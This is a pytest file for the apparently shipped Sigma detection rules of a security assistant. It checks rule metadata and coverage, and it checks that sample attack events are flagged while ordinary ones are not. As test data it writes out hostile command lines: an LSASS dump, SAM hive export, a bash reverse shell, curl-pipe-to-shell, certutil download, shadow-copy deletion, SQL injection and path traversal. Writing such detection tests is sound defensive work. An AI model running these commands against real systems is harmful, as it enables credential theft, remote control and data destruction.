"""Our own rules: compiled as committed, complete, and finding what they say in events as readers give them."""

from __future__ import annotations

import uuid
from importlib import resources

import pytest

from svc.assistant.findings import Severity
from svc.assistant.knowledge.attack_names import attack_name, tactic
from svc.assistant.log_readers.windows import Header, windows_event
from svc.assistant.sigma.condition import Check, Every, Node, Not, Some
from svc.assistant.sigma.engine import Rule, RuleEngine
from svc.assistant.sigma.event import Event
from svc.assistant.sigma.shipped import compile_ours
from svc.assistant.sigma.tables import OURS, load_tables

RULES = load_tables()[OURS].rules
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def test_the_table_that_ships_is_what_the_rules_compile_to():
    shipped = resources.files("svc.assistant.sigma").joinpath("rules", f"{OURS}.json").read_bytes()

    assert shipped == compile_ours(), "the rules were changed: run svc rules compile"


def test_there_are_rules_for_every_kind_of_log():
    kinds = {rule.source.service or rule.source.category for rule in RULES if rule.source.product != "linux"}
    linux = {rule.source.service or rule.source.category for rule in RULES if rule.source.product == "linux"}

    assert len(RULES) >= 80
    assert {
        "security", "system", "application", "powershell", "powershell-classic", "taskscheduler", "windefend", "winrm",
        "wmi", "bits-client", "terminalservices-localsessionmanager", "process_creation", "network_connection",
        "driver_load", "image_load", "create_remote_thread", "process_access", "file_event", "registry_event",
        "registry_set", "pipe_created", "wmi_event", "dns_query", "process_tampering", "webserver", "cloudtrail",
    } <= kinds  # fmt: skip
    assert {"sshd", "sudo", "cron", "auth", "auditd", "process_creation"} <= linux


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.title)
def test_a_rule_of_ours_says_all_that_a_reader_needs(rule: Rule):
    assert uuid.UUID(rule.id).version == 4
    assert (rule.author, rule.license) == ("The svc-jupyter maintainers", "Apache-2.0")
    assert rule.description.endswith(".")
    assert rule.false_positives
    assert rule.tactics
    assert all(tactic(name) is not None for name in rule.tactics)
    assert rule.techniques
    assert all(attack_name(technique) for technique in rule.techniques)
    assert rule.source != type(rule.source)()


def test_no_two_rules_of_ours_have_the_same_id_or_title():
    assert len({rule.id for rule in RULES}) == len({rule.title for rule in RULES}) == len(RULES)


def test_no_rule_of_ours_asks_what_another_program_already_concluded():
    def fields(node: Node) -> set[str]:
        match node:
            case Every(nodes) | Some(nodes):
                return set().union(*map(fields, nodes))
            case Not(inner):
                return fields(inner)
            case Check():
                return {node.field}

    assert "RuleName" not in set().union(*(fields(rule.condition) for rule in RULES))


def windows(channel: str, event_id: int, **fields: str) -> Event:
    return windows_event(Header(number=1, event_id=event_id, channel=channel, host="PC"), fields)


def started(image: str, command: str, parent: str = r"C:\Windows\explorer.exe", **fields: str) -> Event:
    named = {"Image": image, "CommandLine": command, "ParentImage": parent}
    return windows(SYSMON, 1, **named, **fields)


def other(product: str, service: str, category: str = "", **fields: str) -> Event:
    return Event(
        number=1, offset=None, time="", product=product, service=service, category=category, host="", event_id=None,
        fields={name.replace("_", "-"): value for name, value in fields.items()}, excerpt="",
    )  # fmt: skip


def matched(event: Event) -> list[Rule]:
    return [hit.rule for hit in RuleEngine(RULES).feed([event])]


S32 = r"C:\Windows\System32"
ATTACKS = {
    "lsass by comsvcs": (
        started(rf"{S32}\rundll32.exe", r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\x.dmp full"),
        "credential-access",
    ),
    "4688 counts as a start": (
        windows("Security", 4688, NewProcessName=rf"{S32}\reg.exe", CommandLine=r"reg save hklm\sam C:\t\s.hive"),
        "credential-access",
    ),
    "lsass read": (
        windows(
            SYSMON, 10, SourceImage=r"C:\t\a.exe", TargetImage=rf"{S32}\lsass.exe", GrantedAccess="0x1410", CallTrace=""
        ),
        "credential-access",
    ),
    "replication by a user": (
        windows(
            "Security", 4662, SubjectUserName="eve", Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
        ),
        "credential-access",
    ),
    "ticket with RC4": (
        windows("Security", 4769, ServiceName="sql", TicketEncryptionType="0x17", Status="0x0"),
        "credential-access",
    ),
    "anonymous change of a computer": (
        windows("Security", 4742, SubjectUserName="ANONYMOUS LOGON", TargetUserName="DC1$"),
        "credential-access",
    ),
    "wmi starts a shell": (
        started(rf"{S32}\cmd.exe", "cmd /c dir", rf"{S32}\wbem\WmiPrvSE.exe"),
        "lateral-movement",
    ),
    "service of a remote shell": (
        windows("System", 7045, ServiceName="PSEXESVC", ImagePath=r"%SystemRoot%\PSEXESVC.exe"),
        "lateral-movement",
    ),
    "hash passed": (
        windows("Security", 4624, LogonType="9", LogonProcessName="seclogo", TargetUserName="eve"),
        "lateral-movement",
    ),
    "pipe of the service manager": (
        windows("Security", 5145, ShareName=r"\\*\IPC$", RelativeTargetName="svcctl", IpAddress="10.0.0.9"),
        "lateral-movement",
    ),
    "remote desktop by a tunnel": (
        windows("Security", 4624, LogonType="10", IpAddress="127.0.0.1", TargetUserName="eve"),
        "command-and-control",
    ),
    "log cleared": (windows("Security", 1102), "defense-evasion"),
    "defender off": (windows("Microsoft-Windows-Windows Defender/Operational", 5001), "defense-evasion"),
    "amsi": (
        windows("Microsoft-Windows-PowerShell/Operational", 4104, ScriptBlockText="$x.GetField('amsiInitFailed')"),
        "defense-evasion",
    ),
    "thread in another process": (
        windows(SYSMON, 8, SourceImage=r"C:\t\a.exe", TargetImage=r"C:\t\b.exe", StartModule=""),
        "defense-evasion",
    ),
    "driver brought along": (
        windows(SYSMON, 6, ImageLoaded=r"C:\Users\eve\RTCore64.sys", Signed="true", SignatureStatus="Valid"),
        "defense-evasion",
    ),
    "run key": (
        windows(
            SYSMON, 13, EventType="SetValue", TargetObject=r"HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run\a",
            Details=r"powershell -enc AAAA", Image=rf"{S32}\reg.exe",
        ),
        "persistence",
    ),
    "wmi consumer": (windows(SYSMON, 20, Name="x", Type="Command Line", Destination="cmd /c a"), "persistence"),
    "task with a shell": (
        windows("Security", 4698, TaskName=r"\a", TaskContent="<Command>powershell.exe</Command>"),
        "persistence",
    ),
    "guest in a group": (windows("Security", 4732, MemberSid="S-1-5-21-1-2-3-501"), "persistence"),
    "web shell": (started(rf"{S32}\cmd.exe", "cmd /c whoami", rf"{S32}\inetsrv\w3wp.exe"), "persistence"),
    "logon screen": (started(rf"{S32}\cmd.exe", "cmd", rf"{S32}\sethc.exe"), "persistence"),
    "rights without a question": (
        started(rf"{S32}\cmd.exe", "cmd", rf"{S32}\fodhelper.exe"),
        "privilege-escalation",
    ),
    "key for that": (
        windows(
            SYSMON, 13, EventType="SetValue", TargetObject=r"HKU\S-1_Classes\ms-settings\shell\open\command\(Default)",
            Details="cmd.exe",
        ),
        "privilege-escalation",
    ),
    "pipe for getsystem": (
        windows("System", 7045, ServiceName="x", ImagePath=r"cmd.exe /c echo x > \\.\pipe\abc"),
        "privilege-escalation",
    ),
    "encoded command": (
        started(rf"{S32}\WindowsPowerShell\v1.0\powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQ=="),
        "execution",
    ),
    "macro": (started(rf"{S32}\cmd.exe", "cmd /c a", r"C:\Program Files\Office\WINWORD.EXE"), "execution"),
    "scriptlet": (started(rf"{S32}\regsvr32.exe", "regsvr32 /s /i:http://a/b.sct scrobj.dll"), "execution"),
    "administrators listed": (started(rf"{S32}\net.exe", 'net group "Domain Admins" /domain'), "discovery"),
    "certutil": (started(rf"{S32}\certutil.exe", "certutil -urlcache -f http://a/b b"), "command-and-control"),
    "backups destroyed": (started(rf"{S32}\vssadmin.exe", "vssadmin delete shadows /all /quiet"), "impact"),
    "reverse shell on Linux": (
        other("linux", "auditd", "process_creation", CommandLine="bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"),
        "command-and-control",
    ),
    "job that downloads": (
        other("linux", "cron", message="(root) CMD (curl http://a/b | sh)"),
        "persistence",
    ),
    "SQL in a request": (
        other("", "", "webserver", cs_uri_query="/a?id=1 UNION SELECT password FROM users", sc_status="200"),
        "initial-access",
    ),
    "path out of the folder": (
        other("", "", "webserver", cs_uri_query="/a?f=../../../../etc/passwd", sc_status="404"),
        "initial-access",
    ),
    "trail stopped": (other("aws", "cloudtrail", eventName="StopLogging"), "defense-evasion"),
}  # fmt: skip


@pytest.mark.parametrize(("event", "expected"), ATTACKS.values(), ids=ATTACKS)
def test_an_attack_is_found_and_its_tactic_named_first(event: Event, expected: str):
    found = matched(event)

    assert found, "no rule matches"
    worst = min(found, key=lambda rule: list(Severity).index(rule.severity))
    assert expected in {rule.tactics[0] for rule in found if rule.severity == worst.severity}


ORDINARY = {
    "explorer starts a browser": started(r"C:\Program Files\Google\Chrome\chrome.exe", '"chrome.exe" --type=renderer'),
    "a service host": started(
        rf"{S32}\svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p", rf"{S32}\services.exe"
    ),
    "lsass at boot": started(rf"{S32}\lsass.exe", r"C:\Windows\system32\lsass.exe", rf"{S32}\wininit.exe"),
    "logon at the desk": windows(
        "Security", 4624, LogonType="2", TargetUserName="ann", LogonProcessName="User32 ", IpAddress="127.0.0.1"
    ),
    "logon of a service": windows("Security", 4624, LogonType="5", TargetUserName="SYSTEM", IpAddress="-"),
    "domain controllers replicate": windows(
        "Security", 4662, SubjectUserName="DC1$", Properties="{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"
    ),
    "Defender reads lsass": windows(
        SYSMON, 10, SourceImage=r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18\MsMpEng.exe",
        TargetImage=rf"{S32}\lsass.exe", GrantedAccess="0x1010", CallTrace=r"C:\Windows\SYSTEM32\ntdll.dll+9c534",
    ),
    "updates": windows(
        SYSMON, 3, Image=rf"{S32}\svchost.exe", Initiated="true", DestinationIp="13.107.4.50", DestinationPort="443"
    ),
    "a signed driver": windows(
        SYSMON, 6, ImageLoaded=rf"{S32}\drivers\tcpip.sys", Signed="true", SignatureStatus="Valid"
    ),
    "a page": other("", "", "webserver", cs_uri_query="/index.html?page=2", cs_uri_stem="/index.html", sc_status="200"),
    "a logon by SSH": other("linux", "sshd", message="Accepted publickey for ann from 10.0.0.5 port 50000 ssh2"),
    "a job": other("linux", "cron", message="(root) CMD (run-parts --report /etc/cron.hourly)"),
    "an event of no log that is known": windows("Vendor/Log", 7, Data="all is well"),
}  # fmt: skip


@pytest.mark.parametrize("event", ORDINARY.values(), ids=ORDINARY)
def test_an_ordinary_event_raises_nothing_above_low(event: Event):
    assert [rule.title for rule in matched(event) if rule.severity not in (Severity.LOW, Severity.INFO)] == []
